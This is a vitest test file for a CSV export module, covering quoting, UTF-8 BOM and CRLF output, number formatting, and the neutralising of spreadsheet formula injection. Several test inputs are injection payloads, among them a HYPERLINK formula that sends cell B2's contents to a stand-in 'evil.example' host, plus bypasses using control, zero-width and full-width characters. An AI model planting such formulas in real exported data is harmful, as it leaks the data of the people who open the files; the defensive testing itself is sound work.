import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseCsv } from '../testing/parse-csv'
import { csvField, csvNumber, csvText, toCsv, UTF8_BOM } from './csv'

describe('csvField', () => {
  it('leaves plain text alone and quotes fields with a comma, semicolon, tab, quote, CR or LF', () => {
    expect(csvField('llama-train-001')).toBe('llama-train-001')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('two\nlines')).toBe('"two\nlines"')
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"')
    expect(csvField('a;b')).toBe('"a;b"')
    expect(csvField('a\tb')).toBe('"a\tb"')
    expect(csvField('')).toBe('')
    expect(csvField(null)).toBe('')
  })

  it('neutralises text a spreadsheet would run as a formula', () => {
    expect(csvField('=HYPERLINK("http://x","y")')).toBe('"\'=HYPERLINK(""http://x"",""y"")"')
    expect(csvField('+1+2')).toBe("'+1+2")
    expect(csvField('-2+3')).toBe("'-2+3")
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)")
    expect(csvField('\t=1')).toBe('"\t\'=1"')
    expect(csvField('\r=1')).toBe('"\r\'=1"')
    expect(csvText('a=1')).toBe('a=1')
  })

  it('finds a formula behind what a spreadsheet strips: controls, spaces, zero-width, quotes', () => {
    expect(csvField('\u0000=HYPERLINK("https://evil.example/?d="&B2;"Open")')).toBe(
      '"\'=HYPERLINK(""https://evil.example/?d=""&B2;""Open"")"',
    )
    expect(csvText('\u0000=1+1')).toBe("'=1+1")
    expect(csvText(' =1+1')).toBe("' =1+1")
    expect(csvText('\u200B=1+1')).toBe("'\u200B=1+1")
    expect(csvText('\u00A0\u3000\uFEFF@x')).toBe("'\u00A0\u3000\uFEFF@x")
    expect(csvText('"=1+1')).toBe('\'"=1+1')
    for (const start of ['＝', '＋', '－', '＠', '﹦', '⁺', '₌', '−'])
      expect(csvText(`${start}1`)).toBe(`'${start}1`)
  })

  it('neutralises a formula after a separator inside the cell, for imports with ; or tab', () => {
    expect(csvText('x;=1+1')).toBe("x;'=1+1")
    expect(csvText('x\t =1+1')).toBe("x\t' =1+1")
    expect(csvText('a,b;c')).toBe('a,b;c')
    expect(csvText('x;\t;=1')).toBe("x;\t;'=1")
    expect(csvField('x\r\n@y')).toBe('"x\r\n\'@y"')
  })

  it('drops C0 and C1 controls but tab, CR and LF', () => {
    expect(csvText('a\u0000b\u0007c\u001Bd\u007Fe\u0085f')).toBe('abcdef')
    expect(csvText('a\tb')).toBe('a\tb')
  })

  it('keeps non-ASCII text as it is', () => {
    expect(csvField('训练-节点-40')).toBe('训练-节点-40')
    expect(csvField('Zürich, CH')).toBe('"Zürich, CH"')
  })

  it('writes numbers as numbers, never prefixed, without binary noise', () => {
    expect(csvField(2.49)).toBe('2.49')
    expect(csvField(0.1 + 0.2)).toBe('0.3')
    expect(csvField(2.49 / 24)).toBe('0.10375')
    expect(csvField(-5)).toBe('-5')
    expect(csvField(0)).toBe('0')
    expect(csvNumber(Number.NaN)).toBe('')
    expect(csvNumber(Number.POSITIVE_INFINITY)).toBe('')
  })
})

describe('toCsv', () => {
  it('starts with the UTF-8 byte order mark and ends every record with CRLF', () => {
    const text = toCsv(
      ['Name', 'GPUs'],
      [
        ['a', 1],
        ['训练', null],
      ],
    )
    expect(text).toBe(`${UTF8_BOM}Name,GPUs\r\na,1\r\n训练,\r\n`)
    expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]))
  })

  it('reads back as the same fields for any text, cells sanitised', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), {
          maxLength: 5,
        }),
        (rows) => {
          const width = Math.max(1, ...rows.map((row) => row.length))
          const records = rows.map((row) => Array.from({ length: width }, (_, i) => row[i] ?? ''))
          const header = Array.from({ length: width }, (_, i) => `c${i}`)
          const parsed = parseCsv(toCsv(header, records).slice(1))
          expect(parsed).toEqual([header, ...records.map((row) => row.map(csvText))])
        },
      ),
      { numRuns: 300 },
    )
  }, 30_000)
})
